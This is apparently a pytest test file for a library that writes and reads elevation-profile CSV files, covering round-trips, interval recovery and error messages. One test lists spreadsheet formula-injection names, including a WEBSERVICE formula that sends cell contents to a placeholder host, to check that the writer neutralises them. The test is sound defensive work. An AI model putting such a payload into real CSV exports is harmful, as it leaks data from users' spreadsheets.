"""CSV keeps every digit, finds the interval that the distances were rounded from, names rows."""

import csv
import re
import tempfile
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from floatref.errors import InputError
from floatref.files import profile_csv, read_profile, write_profile_csv
from floatref.values.profile import Profile, ProfileTrack

FINITE = st.floats(allow_infinity=False)


@pytest.mark.slow
@given(
    columns=st.lists(st.tuples(FINITE, st.booleans(), FINITE), min_size=2, max_size=40),
    interval=st.floats(1e-5, 1e3),
    start=st.floats(-1e6, 1e6),
    name=st.text(st.characters(exclude_categories=("Cs",)), min_size=1).map(str.strip),
)
@settings(deadline=None, max_examples=80)
def test_a_profile_written_reads_back_the_same(
    columns: list[tuple[float, bool, float]], interval: float, start: float, name: str
) -> None:
    first, valid, second = zip(*columns, strict=True)
    tracks = (ProfileTrack.of(f"a{name}", first, valid), ProfileTrack.of("b", second))
    profile = Profile(interval, tracks, start)
    with tempfile.TemporaryDirectory() as parent:
        write_profile_csv(profile, Path(parent) / "p.csv")
        found = read_profile(Path(parent) / "p.csv")
    for ours, theirs in zip(found.tracks, profile.tracks, strict=True):
        assert ours.name == theirs.name
        np.testing.assert_array_equal(ours.elevation, theirs.elevation)
        np.testing.assert_array_equal(ours.valid, theirs.valid)
    assert found.start_m == start
    bits = 8 * np.spacing(max(abs(start), profile.distance_m[-1]))
    np.testing.assert_allclose(found.distance_m, profile.distance_m, rtol=0, atol=bits)


@given(st.integers(1, 99999), st.integers(2, 400), st.integers(-(10**6), 10**6))
@settings(deadline=None, max_examples=60)
def test_a_decimal_interval_comes_back_exactly(units: int, count: int, start: int) -> None:
    track = ProfileTrack.of("main", np.zeros(count))
    profile = Profile(units / 1e5, (track,), start / 100)
    with tempfile.TemporaryDirectory() as parent:
        write_profile_csv(profile, Path(parent) / "p.csv")
        assert read_profile(Path(parent) / "p.csv").interval_m == profile.interval_m


@pytest.mark.parametrize(("interval", "decimals"), [(0.00508, 3), (0.0254, 2), (0.25, 2), (1, 0)])
def test_distances_rounded_on_export_keep_their_interval(
    interval: float, decimals: int, tmp_path: Path
) -> None:
    rows = [f"{7.1 * (decimals > 0) + k * interval:.{decimals}f},0.0" for k in range(2000)]
    path = tmp_path / "p.csv"
    path.write_text("\n".join(["distance_m,main_elevation_m", *rows]))
    assert read_profile(path).interval_m == interval


def test_the_columns_are_those_of_the_contract(tmp_path: Path) -> None:
    tracks = (ProfileTrack.of("left", [0.5, np.nan]), ProfileTrack.of("right", [0.1, 2], [0, 1]))
    write_profile_csv(Profile(0.25, tracks, 1.0), tmp_path / "p.csv")
    assert (tmp_path / "p.csv").read_text() == (
        "distance_m,left_elevation_m,left_valid,right_elevation_m,right_valid\n"
        "1.0,0.5,1,0.1,0\n"
        "1.25,nan,0,2.0,1\n"
    )


@pytest.mark.parametrize(
    "name", ['=WEBSERVICE("http://a.example/"&A2)&', "+1+1", "-2", "@SUM(A1)", " =1", "\t=1", "\r="]
)
def test_no_name_is_a_formula_and_each_reads_back(name: str, tmp_path: Path) -> None:
    path = tmp_path / "p.csv"
    write_profile_csv(Profile(0.25, (ProfileTrack.of(name, [0.5, 1.0]),)), path)
    with path.open(encoding="utf-8", newline="") as stream:
        assert [cell[0] for cell in next(csv.reader(stream))] == ["d", "'", "'"]
    assert [track.name for track in read_profile(path).tracks] == [name]


def test_names_of_other_programs_are_read_as_they_are(tmp_path: Path) -> None:
    names = ("=a", "'b", "c\\x41")
    head = ",".join(["distance_m", *(f"{name}_elevation_m" for name in names)])
    (tmp_path / "p.csv").write_text(f"{head}\n0,1,2,3\n1,1,2,3\n")
    assert tuple(track.name for track in read_profile(tmp_path / "p.csv").tracks) == names


def test_pieces_of_rows_leave_no_seam(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(profile_csv, "ROWS", 7)
    elevation = np.random.default_rng(3).normal(size=50)
    profile = Profile(0.00508, (ProfileTrack.of("main", elevation),), 12.5)
    write_profile_csv(profile, tmp_path / "p.csv")
    found = read_profile(tmp_path / "p.csv")
    np.testing.assert_array_equal(found.tracks[0].elevation, elevation)
    np.testing.assert_array_equal(found.distance_m, profile.distance_m)


def test_gaps_other_columns_and_a_byte_order_mark_are_tolerated(tmp_path: Path) -> None:
    head = "\ufeffspeed, left_elevation_m,distance_m,left_valid"
    text = "\r\n".join([head, "9,,0,1", "9,NaN,1,1", ",3,2,1", ""])
    (tmp_path / "p.csv").write_bytes(text.encode())
    track = read_profile(tmp_path / "p.csv").track("left")
    assert track.valid.tolist() == [False, False, True]
    assert track.elevation[2] == 3.0


HEAD = "distance_m,left_elevation_m,left_valid\n"
BAD: list[tuple[str, str]] = [
    ("", "columns are"),
    (HEAD, "no rows below the header; copy the complete file"),
    (HEAD + "0,1,1\n", "one point only; a profile needs two"),
    ("distance_m;left_elevation_m;left_valid\n0;1;1\n", "columns are not separated by commas"),
    ("distance_m\tleft_elevation_m\n0\t1\n", "columns are not separated by commas"),
    ("x,left_elevation_m\n0,1\n", 'columns are "x, left_elevation_m"; expected distance_m'),
    ("distance_m,left\n0,1\n", "expected distance_m, <track>_elevation_m and optionally"),
    ("distance_m,a_elevation_m,a_elevation_m\n0,1,1\n", "column a_elevation_m: given twice"),
    (HEAD + "0,0,1\n0,25,0,001,1\n", "row 3 has 5 fields, the header 3; write decimal points"),
    (HEAD + "0,0,1\n0.25,0.0", "row 3 has 2 fields, the header 3; the file is truncated"),
    (HEAD + "0,0,1\n\n1,0,1\n", "row 3 has 0 fields, the header 3; the file is truncated, or a"),
    (HEAD + '0,0,1\n"0,25","0,1",1\n', 'row 3: distance_m is "0,25"; write a number with'),
    (HEAD + "0,0,1\n1,zero,1\n", 'row 3: left_elevation_m is "zero"; write a number'),
    (HEAD + "0,0,1\n1,0,2\n", 'row 3: left_valid is "2"; write 0 or 1'),
    (HEAD + "0,0,1\n,0,1\n", "row 3: distance_m is missing; every row needs one"),
    (HEAD + "0,0,1\n1,0,1\n1,0,1\n", "row 4: distance_m does not increase; sort the rows"),
    (HEAD + "0,0,1\n1,0,1\n2,0,1\n4,0,1\n5,0,1\n", "row 5: distance_m is 4.0, off the interval"),
    (HEAD + "0,0,1\n.25,0,1\n.5,0,1\n1,0,1\n", "row 5: distance_m is 1.0, off the interval"),
    (HEAD + "0,inf,1\n1,0,1\n", "track left: infinite elevation"),
    (HEAD + "-1e308,0,1\n1e308,0,1\n", "row 2: distance_m is -1e+308, beyond 1e+10 m; give it"),
    (HEAD + "0,0,1\n1e308,0,1\n", "row 3: distance_m is 1e+308, beyond 1e+10 m; give it in m"),
    (HEAD + "0,0,1\n1e-306,0,1\n", "interval_m is 1e-306; give it in m, between 0.00001 and 1000"),
    (HEAD + '0,"0,1\n', "not a CSV"),
]


@pytest.mark.parametrize(("text", "line"), BAD)
def test_a_spoilt_file_is_named_with_its_row(text: str, line: str, tmp_path: Path) -> None:
    path = tmp_path / "p.csv"
    path.write_text(text)
    with pytest.raises(InputError, match=re.escape(line)) as caught:
        read_profile(path)
    assert str(caught.value).startswith(f"{path}: ")
    assert "\n" not in str(caught.value)


def test_a_lost_row_in_a_long_file_is_named(tmp_path: Path) -> None:
    rows = [f"{k * 0.25:.2f},0,1\n" for k in range(1000) if k != 700]
    (tmp_path / "p.csv").write_text(HEAD + "".join(rows))
    with pytest.raises(InputError, match=r"row 702: distance_m is 175.25, off .* 0.25 m"):
        read_profile(tmp_path / "p.csv")


def test_what_is_no_text_is_named(tmp_path: Path) -> None:
    (tmp_path / "p.csv").write_bytes(np.full(99, 0.3).tobytes())
    with pytest.raises(InputError, match="not UTF-8 text; give a profile directory or a CSV"):
        read_profile(tmp_path / "p.csv")
    with pytest.raises(InputError, match=r"none.csv: No such file or directory"):
        read_profile(tmp_path / "none.csv")
